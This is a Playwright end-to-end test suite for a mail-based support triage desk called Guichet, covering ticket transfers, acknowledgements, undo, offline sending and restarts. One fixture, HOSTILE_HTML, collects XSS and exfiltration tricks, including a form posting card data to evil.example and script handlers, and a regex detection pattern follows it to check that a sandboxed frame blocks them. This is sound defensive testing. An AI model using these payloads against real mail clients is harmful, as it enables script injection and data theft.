import { expect, test, type Page } from '@playwright/test';
import { startMailServer, type MailServer } from '../harness/mailServer';
import { listMessages, sendMail } from '../harness/mailTools';
import { cardById, column, openDesk, searchFor } from './support/desk';
import { callContract, startGuichet, type RunningGuichet } from './support/startHost';

// The triage desk against real mailboxes: a throwaway Dovecot + Postfix, two desktops
// (two loopback hosts with their own data folders), and the customer's INBOX read over IMAP.

test.describe.configure({ mode: 'serial' });

let server: MailServer;
let agentA: RunningGuichet;
let agentB: RunningGuichet;

function serviceInput(name: 'technical' | 'consumer') {
  const user = server.users[name];
  if (!user) throw new Error(`no ${name} user`);
  const endpoint = { host: '127.0.0.1', tls: 'none', user: user.user };
  return {
    id: name, name: name === 'technical' ? 'Service technique' : 'Service consommateurs', kind: name, address: user.address,
    colour: name === 'technical' ? '#2f6fde' : '#d9822b', defaultLanguage: 'fr',
    imap: { ...endpoint, port: server.imapPort }, smtp: { ...endpoint, port: server.smtpPort },
    imapPassword: user.password, smtpPassword: user.password,
  };
}

async function configure(desktop: RunningGuichet, agentName: string): Promise<void> {
  await callContract(desktop, 'services.add', serviceInput('technical'));
  await callContract(desktop, 'services.add', serviceInput('consumer'));
  await callContract(desktop, 'settings.update', { agentName, undoSeconds: 2 });
}

/** A customer writes; resolves with the ticket's tag once the desk shows its card. */
async function customerWrites(page: Page, to: 'technical' | 'consumer', subject: string, text: string): Promise<string> {
  await sendMail(server, { from: 'customer1', to, subject, text });
  await searchFor(page, subject);
  const card = column(page, to).locator('[data-testid="ticket-card"]').filter({ hasText: subject });
  await expect(card).toBeVisible({ timeout: 15_000 });
  return (await card.getAttribute('data-ticket-id')) ?? '';
}

async function customerInbox(subjectPart: string) {
  const messages = await listMessages(server, 'customer1', 'INBOX');
  return messages.filter((m) => m.subject.includes(subjectPart));
}

test.beforeAll(async () => {
  server = await startMailServer();
  agentA = await startGuichet();
  agentB = await startGuichet();
  await configure(agentA, 'Marie');
  await configure(agentB, 'Karim');
});

test.afterAll(async () => {
  await agentA?.stop();
  await agentB?.stop();
  await server?.stop();
});

test('a window opened after the services connected shows them connected (no event comes for a state already reached)', async ({ page }) => {
  await openDesk(page, agentA.url);
  for (const service of ['technical', 'consumer']) await expect(page.getByTestId(`sync-${service}`)).toHaveAttribute('data-status', 'connected');
});

test('dragging a card to the other service transfers it and the customer gets one notice naming the right address', async ({ page }) => {
  await openDesk(page, agentA.url);
  const ticketId = await customerWrites(page, 'consumer', `Crash DirectX ${Date.now()}`, 'The game crashes at launch with DirectX error 0x887A0005 since the driver update.');
  await cardById(page, ticketId).dragTo(column(page, 'technical'));
  await expect(column(page, 'technical').locator(`[data-ticket-id="${ticketId}"]`)).toBeVisible({ timeout: 20_000 });
  await expect(column(page, 'consumer').locator(`[data-ticket-id="${ticketId}"]`)).toHaveCount(0);
  await expect.poll(async () => (await customerInbox(ticketId)).length, { timeout: 20_000 }).toBe(1);
  const [notice] = await customerInbox(ticketId);
  expect(notice?.text).toContain(server.users.technical?.address);
  expect(notice?.headers['x-guichet-action']).toEqual(['transfer']);
  // The customer's original is now in the technical INBOX too.
  const technical = await listMessages(server, 'technical', 'INBOX');
  expect(technical.some((m) => m.headers['resent-from'] !== undefined)).toBe(true);
});

test('acknowledge: the customer receives it once, and the other desktop sees the new state without reloading', async ({ browser }) => {
  const pageA = await (await browser.newContext()).newPage();
  const pageB = await (await browser.newContext()).newPage();
  await openDesk(pageA, agentA.url);
  await openDesk(pageB, agentB.url);
  const subject = `Sauvegarde corrompue ${Date.now()}`;
  const ticketId = await customerWrites(pageA, 'technical', subject, 'Ma sauvegarde ne se charge plus depuis la version 1.4.');
  await searchFor(pageB, subject);
  await expect(cardById(pageB, ticketId).getByTestId('state-chip')).toHaveAttribute('data-state', 'new', { timeout: 15_000 });

  await cardById(pageA, ticketId).getByRole('button', { name: 'Acknowledge' }).click();
  await expect.poll(async () => (await customerInbox(ticketId)).length, { timeout: 20_000 }).toBe(1);
  const [ack] = await customerInbox(ticketId);
  expect(ack?.headers['x-guichet-action']).toEqual(['acknowledge']);
  expect(ack?.headers['x-guichet-agent']).toEqual(['Marie']);
  await expect(cardById(pageB, ticketId).getByTestId('state-chip')).toHaveAttribute('data-state', 'acknowledged', { timeout: 20_000 });
});

test('undo within the window: nothing reaches the customer', async ({ page }) => {
  await openDesk(page, agentA.url);
  const subject = `Ecran noir ${Date.now()}`;
  const ticketId = await customerWrites(page, 'technical', subject, 'Écran noir après la vidéo d’introduction.');
  await callContract(agentA, 'settings.update', { undoSeconds: 8 });
  await cardById(page, ticketId).getByRole('button', { name: 'Acknowledge' }).click();
  await page.getByTestId('undo-toast').getByRole('button', { name: 'Undo' }).click();
  await expect(page.getByTestId('undo-toast')).toContainText('nothing was sent');
  await callContract(agentA, 'settings.update', { undoSeconds: 2 });
  // Longer than the undo window and a delivery: still nothing.
  await page.waitForTimeout(10_000);
  expect(await customerInbox(ticketId)).toHaveLength(0);
  await expect(cardById(page, ticketId).getByTestId('state-chip')).toHaveAttribute('data-state', 'new');
});

test('offline: an acknowledgement waits in the outbox while the servers are down, then goes once', async ({ page }) => {
  await openDesk(page, agentA.url);
  const subject = `IA bloquée ${Date.now()}`;
  const ticketId = await customerWrites(page, 'technical', subject, 'Les compagnons restent bloqués dans le marais.');
  await server.stopPostfix();
  await server.stopDovecot();
  try {
    await cardById(page, ticketId).getByRole('button', { name: 'Acknowledge' }).click();
    await page.getByTestId('outbox-button').click();
    const task = page.getByTestId('outbox-task').filter({ hasText: ticketId });
    await expect(task).toBeVisible();
    await expect(task).not.toHaveAttribute('data-state', 'done', { timeout: 5_000 });
    await expect(page.getByTestId('sync-technical')).toHaveAttribute('data-status', 'offline', { timeout: 20_000 });
  } finally {
    await server.startDovecot();
    await server.startPostfix();
  }
  await expect.poll(async () => (await customerInbox(ticketId)).length, { timeout: 90_000 }).toBe(1);
});

test('an SMTP server that refuses the connection: the outbox says so in words, then the mail goes once it is back', async ({ page }) => {
  await openDesk(page, agentA.url);
  const ticketId = await customerWrites(page, 'technical', `Son coupé ${Date.now()}`, 'Plus aucun son après la cinématique.');
  await server.stopPostfix();
  try {
    await cardById(page, ticketId).getByRole('button', { name: 'Acknowledge' }).click();
    await page.getByTestId('outbox-button').click();
    const error = page.getByTestId('outbox-task').filter({ hasText: ticketId }).locator('.task-error');
    // IMAP is up, so the send is tried after the undo window and SMTP refuses the connection.
    await expect(error).toContainText('The mail server refused the connection (127.0.0.1:', { timeout: 30_000 });
    await expect(error).toHaveAttribute('title', /ECONNREFUSED/);
  } finally {
    await server.startPostfix();
  }
  await expect.poll(async () => (await customerInbox(ticketId)).length, { timeout: 90_000 }).toBe(1);
});

// Every trick a hostile mail can try; each would set the canary `__pwned` or reach evil.example.
const HOSTILE_HTML = `<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/link.css">
<style>@import url(https://evil.example/import.css); body { background: url(https://evil.example/bg.png); }</style>
<base href="https://evil.example/">
</head><body onload="parent.__pwned='onload'">
<script>parent.__pwned = 'script'; top.__pwned = 'script';</script>
<p>Votre facture est <b>en pièce jointe</b>.</p>
<img src="x" onerror="parent.__pwned='onerror'">
<img src="https://tracker.example/pixel.gif" width="1" height="1">
<a href="javascript:parent.__pwned='link'" id="trap">Voir la facture</a>
<form action="https://evil.example/steal" method="post"><input name="card" value="4111"><button>Payer</button></form>
<svg><script>parent.__pwned='svg'</script><image href="https://evil.example/svg.png"/></svg>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/object.swf"></object>
<div style="background-image:url('https://evil.example/inline.png')">Fond</div>
</body></html>`;

test('a hostile HTML mail runs no script and makes no request off this computer', async ({ page }) => {
  const offHost: string[] = [];
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (url.hostname !== '127.0.0.1' && !['data:', 'about:'].includes(url.protocol)) offHost.push(request.url());
  });
  await page.route((url) => url.hostname !== '127.0.0.1', (route) => route.abort());
  await openDesk(page, agentA.url);
  const subject = `Votre facture ${Date.now()}`;
  await sendMail(server, { from: 'customer2', to: 'consumer', subject, text: 'Votre facture est en pièce jointe.', html: HOSTILE_HTML });
  await searchFor(page, subject);
  const card = column(page, 'consumer').locator('[data-testid="ticket-card"]').filter({ hasText: subject });
  await expect(card).toBeVisible({ timeout: 15_000 });
  await card.locator('.card-open').click();
  const frame = page.getByTestId('mail-frame');
  await expect(frame).toBeVisible({ timeout: 15_000 });
  await expect(frame).toHaveAttribute('sandbox', '');
  const content = page.frameLocator('[data-testid="mail-frame"]');
  await expect(content.getByText('Voir la facture')).toBeVisible();
  await content.getByText('Voir la facture').click();
  expect(await page.evaluate(() => (globalThis as { __pwned?: unknown }).__pwned)).toBeUndefined();
  for (const f of page.frames()) expect(f.url()).toMatch(/^(http:\/\/127\.0\.0\.1|about:srcdoc|about:blank)/);
  const srcdoc = (await frame.getAttribute('srcdoc')) ?? '';
  expect(srcdoc).not.toMatch(/<script|onerror=|onload=|javascript:|<form|<iframe|<object|<base\b|<link|http-equiv="?refresh|\s(src|href|action|data)="https?:|url\(['"]?https?:|@import/i);
  expect(offHost).toEqual([]);
});

test('a restart shows the last session\'s queues at once, marked provisional, then the queues as they are now', async ({ page }) => {
  await openDesk(page, agentA.url);
  const subject = `Manette muette ${Date.now()}`;
  const ticketId = await customerWrites(page, 'technical', subject, 'La manette ne vibre plus depuis la mise à jour.');
  await page.close();
  // Marie closes Guichet (the desk snapshot is saved on the way out)…
  expect(await agentA.stop({ keepData: true })).toBe(0);
  // …and meanwhile Karim acknowledges the ticket from his desk.
  await callContract(agentB, 'tickets.acknowledge', { ticketId });
  await expect.poll(async () => (await customerInbox(ticketId)).length, { timeout: 20_000 }).toBe(1);

  agentA = await startGuichet([], {}, agentA.dataDir);
  const restarted = await page.context().newPage();
  const firstPages: Array<{ provisional: boolean; tickets: Array<{ ticketId: string; state: string }> }> = [];
  restarted.on('websocket', (ws) => ws.on('framereceived', ({ payload }) => {
    const frame = JSON.parse(String(payload)) as { type: string; result?: { ok: boolean; value?: { provisional?: boolean; tickets?: Array<{ ticketId: string; state: string }> } } };
    const value = frame.type === 'result' && frame.result?.ok ? frame.result.value : undefined;
    if (value?.tickets && value.provisional !== undefined) firstPages.push({ provisional: value.provisional, tickets: value.tickets });
  }));
  await openDesk(restarted, agentA.url);
  // The first pages came from the snapshot: the ticket as Marie left it.
  const provisional = firstPages.filter((p) => p.provisional).flatMap((p) => p.tickets);
  expect(provisional.find((t) => t.ticketId === ticketId)?.state).toBe('new');
  // Then core's own list, and the sync, bring Karim's acknowledgement.
  await expect(restarted.locator('[data-queues="complete"]')).toBeAttached({ timeout: 30_000 });
  await searchFor(restarted, subject);
  await expect(cardById(restarted, ticketId).getByTestId('state-chip')).toHaveAttribute('data-state', 'acknowledged', { timeout: 20_000 });
  await expect(restarted.getByTestId('queue-load')).toHaveCount(0);
});

test('a service whose password the server refuses says so in the status bar and beside it in Settings', async ({ page }) => {
  const general = await server.addUser(`general${Date.now()}`, `general${Date.now()}@guichet.test`);
  const endpoint = { host: '127.0.0.1', tls: 'none', user: general.user };
  await callContract(agentB, 'services.add', {
    id: 'general', name: 'Accueil', kind: 'other', address: general.address, colour: '#2a9d8f', defaultLanguage: 'fr',
    imap: { ...endpoint, port: server.imapPort }, smtp: { ...endpoint, port: server.smtpPort },
    imapPassword: 'not-the-password', smtpPassword: 'not-the-password',
  });
  try {
    await openDesk(page, agentB.url);
    await expect(page.getByTestId('sync-general')).toHaveAttribute('data-status', 'authFailed', { timeout: 20_000 });
    await page.getByRole('button', { name: /^settings$/i }).click();
    await expect(page.locator('[data-service-id="general"]').getByTestId('settings-service-auth-failed')).toContainText('Sign-in refused by the server: ');
    await expect(page.locator('[data-service-id="technical"]').getByTestId('settings-service-auth-failed')).toHaveCount(0);
  } finally {
    await callContract(agentB, 'services.remove', { id: 'general' });
  }
});
